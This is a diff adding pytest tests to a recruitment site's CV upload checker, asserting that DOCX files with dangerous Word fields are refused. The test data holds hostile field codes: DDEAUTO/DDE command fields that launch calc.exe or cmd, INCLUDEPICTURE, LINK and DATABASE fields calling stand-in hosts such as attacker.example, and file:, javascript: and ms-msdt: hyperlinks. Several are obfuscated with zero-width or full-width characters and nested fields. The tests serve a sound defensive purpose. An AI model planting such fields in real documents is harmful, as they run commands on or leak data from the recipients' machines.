@@ -12,6 +12,7 @@ import io
 import logging
 import os
 import threading
+import tracemalloc
 
 import django
 import pytest
@@ -28,6 +29,7 @@ from recruitment.uploads import (
     SizeCappedUploadHandler,
     inspect_cv,
 )
+from recruitment.uploads.docx import MAX_FIELD_CODE, MAX_FIELD_DEPTH, MAX_XML_DEPTH, check_docx
 from recruitment.uploads.links import is_unsafe_link
 from recruitment.uploads.pdf import _pypdf_warnings
 from recruitment.uploads.pdf_budget import MAX_PDF_STRING_BYTES, MAX_PDF_STRING_TOTAL_BYTES
@@ -37,9 +39,15 @@ from tests.hostile_uploads import (
     GOOD_CVS,
     HOSTILE_CVS,
     HOSTILE_MAX_BYTES,
+    MC_NS,
+    build_docx,
+    document_xml,
+    docx_with_field,
+    field_runs,
     hostile_filenames,
     pdf_with_info,
     valid_docx,
+    valid_docx_parts,
     valid_pdf,
     valid_pdf_with_binary_image,
     valid_pdf_with_many_strings,
@@ -436,6 +444,178 @@ def test_a_cv_with_many_small_strings_is_accepted() -> None:
     inspected = inspect_cv(io.BytesIO(valid_pdf_with_many_strings()), max_bytes=HOSTILE_MAX_BYTES)
 
     assert inspected.kind == "pdf"
+
+
+# --------------------------------------------------------------------------------------------
+# DOCX fields: nothing that runs a program or reads a file or URL, however it is written
+# --------------------------------------------------------------------------------------------
+
+
+def _docx_with_body(body: str) -> bytes:
+    return build_docx({**valid_docx_parts(), "word/document.xml": document_xml(body)})
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        ' INCLUDEPICTURE "https://tracker.example/p.png" \\d ',
+        'INCLUDEPICTURE"https://tracker.example/p.png"',
+        ' \t includetext  "C:\\\\Users\\\\Public\\\\notes.docx" ',
+        ' "INCLUDETEXT" "https://evil.example/x.docx" ',
+        ' IN"CLUDE"TEXT "https://evil.example/x.docx" ',
+        ' INCLUDE "https://evil.example/x.docx" ',
+        " \uff29\uff2e\uff23\uff2c\uff35\uff24\uff25\uff30\uff29\uff23\uff34\uff35\uff32\uff25"
+        ' "https://tracker.example/p.png" ',
+        ' INCLUDE\u200bPICTURE "https://tracker.example/p.png" ',
+        ' LINK Word.Document.12 "https://evil.example/x.docx" "" \\a ',
+        ' import "https://tracker.example/logo.png" ',
+        ' RD "\\\\\\\\attacker.example\\\\share\\\\x.docx" ',
+        ' DATABASE \\d "\\\\\\\\attacker.example\\\\share\\\\x.mdb" \\s "SELECT * FROM t" ',
+        ' DATA "\\\\\\\\attacker.example\\\\share\\\\people.xlsx" ',
+    ],
+    ids=[
+        "includepicture",
+        "no_space_before_the_target",
+        "tab_and_lower_case_local_path",
+        "quoted_name",
+        "name_joined_by_quotes",
+        "word6_include",
+        "full_width_name",
+        "zero_width_space_in_name",
+        "link",
+        "import",
+        "rd",
+        "database",
+        "word6_data",
+    ],
+)
+def test_field_that_reads_a_file_or_url_is_refused_however_it_is_written(code: str) -> None:
+    # Given a DOCX with a field that makes Word read a file or URL when it updates fields
+    data = docx_with_field(code)
+
+    # When it is inspected, then it is refused as content from outside the document
+    assert _rejection(data).code == "docx_external_relationship"
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        "<w:p>" + field_runs(" D\u200bDEAUTO c:\\\\windows\\\\calc.exe ") + "</w:p>",
+        "<w:p>" + field_runs(" \uff24\uff24\uff25 cmd /k calc ") + "</w:p>",
+        # "DD", then a symbol character Word supplies, then "AUTO".
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
+        '<w:r><w:sym w:font="Arial" w:char="0045"/></w:r>'
+        '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\x.exe</w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
+        # The whole name is a nested field's result: a document property that may say DDE.
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        + field_runs(" DOCPROPERTY Category ", result="DDE")
+        + '<w:r><w:instrText xml:space="preserve"> c:\\\\x.exe</w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
+    ],
+    ids=["zero_width_space", "full_width", "symbol_in_name", "name_from_nested_field"],
+)
+def test_command_field_hidden_in_its_name_is_refused(body: str) -> None:
+    assert _rejection(_docx_with_body(body)).code == "docx_active_content"
+
+
+def test_instruction_text_after_a_field_separator_is_refused() -> None:
+    # Given a PAGE field whose result holds the code of another field (Word never writes
+    # instruction text there, so it is not worth guessing what Word makes of it)
+    body = (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        '<w:r><w:instrText xml:space="preserve">INCLUDEPICTURE "https://t.example/p"</w:instrText>'
+        '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+    assert _rejection(_docx_with_body(body)).code == "docx_external_relationship"
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        ' HYPERLINK "file:///C:/Windows/System32/calc.exe" ',
+        ' HYPERLINK "javascript:alert(1)" ',
+        " HYPERLINK \\\\\\\\attacker.example\\\\share ",
+        ' HYPERLINK \\o "Portfolio" "ms-msdt:/id PCWDiagnostic" ',
+        ' HYPERLINK "https://example.com/' + "a" * MAX_FIELD_CODE + '" ',
+    ],
+    ids=["file", "javascript", "unquoted_unc_path", "after_a_tooltip", "longer_than_the_cap"],
+)
+def test_hyperlink_field_to_anything_but_the_web_email_or_phone_is_refused(code: str) -> None:
+    assert _rejection(docx_with_field(code)).code == "unsafe_link"
+
+
+def test_hyperlink_field_whose_target_word_computes_is_refused() -> None:
+    # Given a HYPERLINK whose target is a nested field's result, known only once Word runs it
+    body = (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        '<w:r><w:instrText xml:space="preserve"> HYPERLINK "</w:instrText></w:r>'
+        + field_runs(" DOCPROPERTY Manager ", result="https://example.com")
+        + '<w:r><w:instrText xml:space="preserve">" </w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+    assert _rejection(_docx_with_body(body)).code == "unsafe_link"
+
+
+def test_field_mark_in_one_branch_of_alternate_content_is_refused() -> None:
+    # Given a PAGE field whose separate mark is in a branch Word skips (it knows no "w99"):
+    # Word would read the text after it as more code, a scanner reading both branches as
+    # the field's result
+    body = (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
+        f'<w:r><mc:AlternateContent xmlns:mc="{MC_NS}"><mc:Choice Requires="w99">'
+        '<w:fldChar w:fldCharType="separate"/></mc:Choice><mc:Fallback/></mc:AlternateContent>'
+        "</w:r>"
+        '<w:r><w:t>INCLUDEPICTURE "https://tracker.example/p.png"</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+    # When it is inspected, then the two readings are not reconciled but refused
+    assert _rejection(_docx_with_body(body)).code == "docx_malformed"
+
+
+def test_pages_of_instruction_text_outside_any_field_are_refused() -> None:
+    run = '<w:r><w:instrText xml:space="preserve">PAGE </w:instrText></w:r>'
+    body = "<w:p>" + run * (MAX_FIELD_CODE // 5 + 1) + "</w:p>"
+
+    assert _rejection(_docx_with_body(body)).code == "docx_malformed"
+
+
+def test_fields_nested_deeper_than_the_cap_are_refused() -> None:
+    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+    body = "<w:p>" + begin * (MAX_FIELD_DEPTH + 1) + "</w:p>"
+
+    assert _rejection(_docx_with_body(body)).code == "docx_malformed"
+
+
+def test_xml_nested_deeper_than_the_cap_is_refused() -> None:
+    body = "<w:sdt>" * MAX_XML_DEPTH + "</w:sdt>" * MAX_XML_DEPTH
+
+    assert _rejection(_docx_with_body(body)).code == "docx_malformed"
+
+
+def test_a_large_part_is_scanned_in_flat_memory() -> None:
+    # Given a 7 MB main part of 200 000 runs outside any paragraph
+    runs = "".join(f"<w:r><w:t>{i * 7919 % 1_000_003}</w:t></w:r>" for i in range(200_000))
+    data = _docx_with_body(runs)
+
+    # When it is checked
+    tracemalloc.start()
+    try:
+        check_docx(data)
+        _current, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+
+    # Then it passes, holding a small part of what the parsed part would take
+    assert peak < 5 * 1024 * 1024
 
 
 # --------------------------------------------------------------------------------------------
